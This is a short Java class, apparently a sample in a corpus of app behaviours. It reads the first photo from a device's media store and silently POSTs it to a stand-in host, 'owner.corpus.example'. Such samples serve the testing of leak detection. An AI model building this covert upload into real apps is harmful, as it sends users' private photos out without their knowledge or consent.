package org.corpus;

import java.io.DataInputStream;
import java.io.File;
import java.io.FileInputStream;
import java.util.List;
import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** The first photo. */
public class PhotoUpload extends Screen {
    @Override
    protected void act() throws Exception {
        List<String> photos = Owner.rows(this, "content://media/external/images/media", "_data");
        if (!photos.isEmpty()) {
            File file = new File(photos.get(0));
            byte[] data = new byte[(int) file.length()];
            try (DataInputStream in = new DataInputStream(new FileInputStream(file))) {
                in.readFully(data);
            }
            Net.post("http://owner.corpus.example/photo", "image/jpeg", data);
        }
    }
}
